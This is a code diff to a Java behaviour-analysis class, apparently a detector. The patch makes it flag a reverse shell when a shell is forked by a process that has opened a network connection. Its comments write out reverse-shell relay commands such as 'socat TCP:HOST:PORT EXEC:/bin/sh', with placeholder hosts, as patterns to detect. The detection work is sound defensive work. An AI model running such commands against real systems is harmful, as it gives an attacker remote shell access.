@@ -142,6 +142,11 @@ final class BehaviourAccumulator implements FeatureAccumulator {
     private double netBytes;
     private boolean connectedInet;
     /**
+     * The process that forked it had connected to an inet address by then (kept across exec): {@code socat
+     * TCP:HOST:PORT EXEC:/bin/sh} forks the shell on a socketpair, pipes or a pty and relays the connection.
+     */
+    private boolean parentConnected;
+    /**
      * Its program is an interactive shell that takes its commands from stdin: {@code -i} without {@code -c}
      * (set at each exec).
      */
@@ -320,6 +325,7 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             stdinPipe = parent.stdinPipe;
             stdoutPipe = parent.stdoutPipe;
             shellImage = parent.shellImage;
+            parentConnected = parent.connectedInet;
             fetchedText = parent.fetchedText;
             fetchedPipe = parent.fetchedPipe;
             for (int k = 0; k < FILE_KINDS; k++) {
@@ -1351,6 +1357,16 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         return false;
     }
 
+    /**
+     * @return true when it is a shell forked by a process that had connected to an inet address, and the shell is
+     *     interactive ({@code -i}, no {@code -c}; any stdin, a pty included) or reads its program from a stdin that is no
+     *     terminal: a relay's reverse shell, {@code socat TCP:HOST:PORT EXEC:/bin/sh} (a socketpair), {@code ...,pipes},
+     *     {@code EXEC:'bash -li',pty}, and their stand-ins in Python or Perl
+     */
+    private boolean shellOfAConnectedParent() {
+        return parentConnected && shellImage && (commandShell || programFromStdin && stdinNotTerminal);
+    }
+
     /** @return true for a {@code -yy} decoration of a TCP/UDP socket */
     private static boolean isInetSocket(CharSequence fdArg) {
         CharSequence d = Arguments.fdDecoration(fdArg);
@@ -2053,7 +2069,8 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         if (ports != null && ports.estimate() >= SCAN_PORTS) {
             v[Feature.IND_PORT_SCAN.ordinal()] = 1;
         }
-        if (marks[Feature.NET_DUP_SOCKET_TO_STDIO.ordinal()] > 0 || marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] > 0 || relayedShell()) {
+        if (marks[Feature.NET_DUP_SOCKET_TO_STDIO.ordinal()] > 0 || marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] > 0 || relayedShell()
+                || shellOfAConnectedParent()) {
             v[Feature.IND_REVERSE_SHELL.ordinal()] = 1;
         }
         if (programFromStdin && (familyOnlinePipe(stdinPipe) || stdinFetched) || familyOnlinePipe(scriptPipe)) {
